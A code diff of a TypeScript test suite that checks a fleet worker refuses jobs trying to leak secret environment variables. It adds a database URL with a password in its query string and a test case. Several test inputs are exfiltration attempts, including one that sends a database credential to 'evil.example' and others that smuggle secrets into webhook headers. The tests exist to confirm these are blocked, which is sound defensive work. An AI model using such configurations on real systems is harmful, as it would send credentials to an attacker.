@@ -8,12 +8,19 @@ import { readWorkerConfig } from '../../../src/features/fleet/worker/worker-conf
 import { jobOf, SANDBOX, USERS } from './job-of.ts';
 import { ownFolder, variable } from './own-folder.ts';
 
-const ENV = { STATE_URL: 'postgres://me:word@127.0.0.1/db', HOOK: 'https://hooks.example/1', PATH: '/bin' };
+const ENV = {
+  STATE_URL: 'postgres://me:word@127.0.0.1/db',
+  QUERY_URL: 'postgres://127.0.0.1/db?user=me&Password=word',
+  HOOK: 'https://hooks.example/1',
+  PATH: '/bin',
+};
 
 /** What a worker says to a job: the code of its refusal, or `ok`. */
 async function answer(own: ReturnType<typeof ownFolder>, job: FleetJob, config = ''): Promise<string> {
   const rules = {
-    config: await readWorkerConfig(own.write('worker.yaml', `version: 1\nenv: [STATE_URL, HOOK]\n${config}`)),
+    config: await readWorkerConfig(
+      own.write('worker.yaml', `version: 1\nenv: [STATE_URL, QUERY_URL, HOOK]\n${config}`),
+    ),
     ...{ env: ENV, allowCode: false },
   };
   return await allow(job, rules).then(
@@ -151,6 +158,7 @@ describe('a job that nobody has submitted', () => {
     for (const more of [
       `state: "postgres://evil.example/db?a=${variable('STATE_URL')}"`,
       `state: "${variable('STATE_URL')}?a=1"`,
+      `notify: [{ webhook: { env: HOOK }, headers: { a: "${variable('QUERY_URL')}" } }]`,
       `notify: [{ webhook: { env: HOOK }, headers: { a: "${variable('STATE_URL')}" } }]`,
     ])
       expect([more, await asked(more)]).toEqual([more, 'FLEET.KEY_REFUSED']);
